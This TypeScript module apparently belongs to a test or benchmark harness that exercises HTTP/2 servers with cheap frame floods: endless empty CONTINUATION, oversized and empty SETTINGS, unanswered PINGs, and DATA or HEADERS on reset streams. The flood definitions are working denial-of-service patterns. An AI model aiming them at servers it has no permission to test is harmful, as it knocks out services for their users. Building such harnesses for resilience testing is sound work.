import type { Attacked, Flood, Move } from './flood.js';
import { FRAME_HEAD_BYTES, frame, frameFlag, frameType, requestFields, uint32 } from './frames.js';

/** What is sent in one go: long enough that the attacker is not what is slow. */
const BATCH_BYTES = 64 * 1024;
const LARGE_DATA_BYTES = 16 * 1024;
const SETTING_BYTES = 6;

const TEXT = requestFields('text/plain');
/** A request whose body is still to come. */
const openingFrames = (stream: number) => frame(frameType.headers, frameFlag.endHeaders, stream, TEXT);
/** The server resets the stream: a window that does not open is an error of its sender's. */
const resetHere = Buffer.concat([openingFrames(1), frame(frameType.windowUpdate, 0, 1, uint32(0))]);

function batchOf(each: Buffer): Buffer {
  return Buffer.concat(Array<Buffer>(Math.ceil(BATCH_BYTES / each.length)).fill(each));
}

/** The same bytes over and over, after others at the beginning. */
function endless(name: string, what: string, first: Buffer, each: Buffer, reads = true): Flood {
  const batch = batchOf(each);
  const next = ({ turn }: Attacked): Move => (turn === 0 ? first : batch);
  return { name, what, connections: 1, isHttp2: true, reads, next };
}

/** Data on stream 1 that keep to a window. @param windowOf - 0: the connection's; a stream that is over gets no more. */
function dataFlood(name: string, what: string, first: Buffer, each: Buffer, windowOf: 0 | 1): Flood {
  const batch = batchOf(each);
  const dataBytes = (batch.length / each.length) * (each.length - FRAME_HEAD_BYTES);
  const next = (attacked: Attacked): Move => {
    if (attacked.turn === 0) return first;
    return attacked.window(windowOf) < dataBytes ? 'wait' : batch;
  };
  return { name, what, connections: 1, isHttp2: true, reads: true, next };
}

/** Frames that cost their sender next to nothing. */
export const frameFloods: readonly Flood[] = [
  endless(
    'empty-continuations',
    'CONTINUATION without a byte',
    frame(frameType.headers, 0, 1, TEXT),
    frame(frameType.continuation, 0, 1),
  ),
  endless(
    'large-settings',
    '64 KiB of SETTINGS a frame',
    openingFrames(1),
    frame(frameType.settings, 0, 0, Buffer.alloc(10_000 * SETTING_BYTES, 0xf0)),
  ),
  endless('empty-settings', 'SETTINGS without a setting', openingFrames(1), frame(frameType.settings, 0, 0)),
  endless(
    'unread-pings',
    'PING, and no answer is read',
    openingFrames(1),
    frame(frameType.ping, 0, 0, Buffer.alloc(8)),
    false,
  ),
  endless('empty-data', 'DATA without a byte', openingFrames(1), frame(frameType.data, 0, 1)),
  endless(
    'reset-headers',
    'HEADERS on a stream that was reset',
    resetHere,
    frame(frameType.headers, frameFlag.endHeaders, 1, TEXT),
  ),
  dataFlood(
    'reset-data',
    'DATA on a stream that was reset',
    resetHere,
    frame(frameType.data, 0, 1, Buffer.alloc(LARGE_DATA_BYTES)),
    0,
  ),
  dataFlood('small-data', 'DATA of one byte', openingFrames(1), frame(frameType.data, 0, 1, Buffer.from('a')), 1),
];
